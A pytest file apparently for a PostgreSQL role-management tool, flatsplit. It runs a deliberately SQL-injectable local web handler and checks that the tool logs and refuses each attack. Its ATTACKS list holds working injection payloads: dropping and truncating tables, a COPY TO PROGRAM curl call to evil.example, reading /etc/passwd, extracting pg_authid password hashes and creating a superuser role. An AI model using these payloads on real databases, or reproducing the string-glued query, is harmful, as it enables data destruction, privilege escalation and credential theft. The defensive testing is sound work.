"""A web application with a hole in it, attacked as sqlmap would: the log names who, from where, what and when."""

from __future__ import annotations

import http.server
import threading
import urllib.parse
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import psycopg
import pytest

from flatsplit.config import PURPOSES
from flatsplit.demo import flat
from flatsplit.demo.injection import search_sql
from tests.fixtures.cli import InProcess
from tests.fixtures.servers import FreshCluster
from tests.support.walk import configure, write_passwords

PASSWORDS = {role: f"password-of-{role}" for role in PURPOSES}
ATTACKS = {
    "'; DROP TABLE payments CASCADE; --": ("DROP TABLE", "payments"),
    "'/**/;/**/aLtEr/**/tAbLe/**/payments/**/DISABLE/**/TRIGGER/**/ALL--": ("ALTER TABLE", "payments"),
    "'; TRUNCATE payments; --": ("TRUNCATE", "payments"),
    "'; CREATE TABLE shop.loot (t text); --": ("CREATE TABLE", "shop.loot"),
    "'; COPY (SELECT 1) TO PROGRAM 'curl https://evil.example/geheim'; --": ("COPY … PROGRAM", None),
    "'; SELECT pg_read_file('/etc/passwd'); --": ("SELECT", "pg_read_file()"),
    "' UNION SELECT NULL, rolpassword, NULL FROM pg_authid --": ("SELECT", "pg_authid"),
    "'; SET ROLE dba; --": ("SET ROLE", "dba"),
    "'; CREATE ROLE evil SUPERUSER PASSWORD 'geheim'; --": ("CREATE ROLE", "evil"),
    "'; DO $$ BEGIN EXECUTE 'DROP TABLE pay' || 'ments'; END $$; --": ("DROP TABLE", "payments"),
}


class Application(http.server.BaseHTTPRequestHandler):
    """Searches for what it is told, by gluing it into a query. This is the mistake."""

    conninfo = ""

    def do_GET(self) -> None:
        term = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)["q"][0]
        try:
            with psycopg.connect(self.conninfo, application_name="flyway 10") as conn:
                conn.execute(search_sql(term).encode())
            self.send_response(200)
        except psycopg.Error:
            self.send_response(500)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def application(conninfo: str) -> Iterator[str]:
    handler = type("Shop", (Application,), {"conninfo": conninfo})
    with http.server.HTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/?q="
        finally:
            server.shutdown()
            thread.join()


@pytest.mark.slow
def test_an_attack_on_the_shop_is_told(fresh_cluster: FreshCluster, invoke_cli: InProcess, tmp_path: Path) -> None:
    logging = {"logging_collector": "on", "log_destination": "csvlog", "log_directory": "log"}
    cluster = fresh_cluster(loopback=True, settings=logging)
    shop = flat.build(cluster)
    dsn = shop.conninfo(flat.OPERATOR)
    invoke_cli("init", "--legacy-role", flat.LEGACY, "--yes", dsn=dsn).check()
    configure(tmp_path / "flatsplit.toml", drain="0s", soak="0s", rehearsal="off")
    file = write_passwords(tmp_path / "passwords.toml", PASSWORDS)
    invoke_cli("next", "--yes", "--through", "enable-login", "--password-file", str(file), dsn=dsn).check()
    began = datetime.now(UTC) - timedelta(seconds=1)
    with application(cluster.conninfo(flat.DATABASE, "app_user", PASSWORDS["app_user"], tcp=True)) as url:
        for attack in ("kettle", *ATTACKS):
            try:
                urllib.request.urlopen(url + urllib.parse.quote(attack)).close()
            except urllib.error.HTTPError as error:
                error.close()
                assert attack != "kettle"
    found = invoke_cli("who", "--refused", "--json", dsn=dsn).check(4).json
    attacker = [act for act in found["acts"] if act["login"] == "app_user"]
    assert sorted((act["act"], act["object"] or "") for act in attacker) == sorted(
        (act, name or "") for act, name in ATTACKS.values()
    )
    for act in attacker:
        assert (act["client"], act["application"]) == ("127.0.0.1", "flyway 10")
        assert (act["outcome"], act["judgement"]) == ("refused", "suspicious")
        assert began <= datetime.fromisoformat(act["at"]) <= datetime.now(UTC) + timedelta(seconds=1)
        assert "geheim" not in act["statement"]
    shown = invoke_cli("who", "--refused", "DROP TABLE payments", dsn=dsn).check(4).stdout
    assert "app_user from 127.0.0.1 (says it is 'flyway 10')  DROP TABLE payments: refused  suspicious" in shown
    assert "2 acts: 2 suspicious" in shown
    assert "geheim" not in invoke_cli("who", "--refused", "--literal", "create role", dsn=dsn).check(4).stdout
